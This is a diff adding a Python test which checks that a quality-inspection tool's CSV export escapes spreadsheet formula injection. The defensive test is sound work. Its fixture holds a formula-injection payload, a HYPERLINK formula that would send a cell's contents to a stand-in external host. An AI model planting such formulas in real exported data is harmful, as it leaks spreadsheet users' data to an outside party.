@@ -2069,6 +2069,30 @@ def test_a_query_cut_by_its_limit_says_so_and_its_csv_stays_clean(tmp_path):
     assert len(whole.stdout.splitlines()) == 4 and "--limit" not in whole.stderr
 
 
+def test_the_csv_shows_a_formula_from_the_wire_as_text_and_keeps_its_columns(tmp_path):
+    """A part label read `=HYPERLINK(...)` and a camera named `@cam,1`: a spreadsheet opening the
+    CSV would run the one and split the other. The CSV writes them as text, the JSON as they are."""
+    url = f"sqlite:///{tmp_path / 'line.db'}"
+    writer = RecordWriter(url, tmp_path / "ev").start()
+    formula = '=HYPERLINK("http://x.invalid/?"&A1,"open")'
+    for i, part in enumerate((formula, "-5", "SN-7")):
+        result = _result("@cam,1", i, decision="pass")
+        result.header["part_id"] = part
+        writer.put(result, time.time_ns())
+    writer.close()
+    Record(url).review("@cam,1", 0, "defect", kind="+crack", by="=ann")
+    rows = list(csv.DictReader(run_vqad("records", url, "--format", "csv").stdout.splitlines()))
+    by_frame = {int(r["frame_id"]): r for r in rows}
+    assert {r["camera_id"] for r in rows} == {"'@cam,1"}
+    assert [by_frame[i]["part_id"] for i in range(3)] == ["'" + formula, "'-5", "SN-7"]
+    assert by_frame[0]["reviews"] == "defect:+crack:=ann"  # starts with its verdict: no formula
+    assert all(float(r["score"]) == 0.5 and r["time"][:2] == "20" for r in rows)  # numbers stay numbers
+    daily = list(csv.DictReader(run_vqad("records", url, "--daily", "--format", "csv").stdout.splitlines()))
+    assert [(d["camera_id"], d["results"], d["missed"]) for d in daily] == [("'@cam,1", "3", "1")]
+    (as_json,) = json.loads(run_vqad("records", url, "--frame-id", "0", "--format", "json").stdout)
+    assert as_json["camera_id"] == "@cam,1" and as_json["part_id"] == formula
+
+
 def test_a_restart_onto_another_record_does_not_count_the_previous_runs_results_as_missing(tmp_path, caplog):
     """The state folder (the model's by default) outlives a change of record: a daemon started
     on a new database said that every result of the previous run, stored in the old one, had no
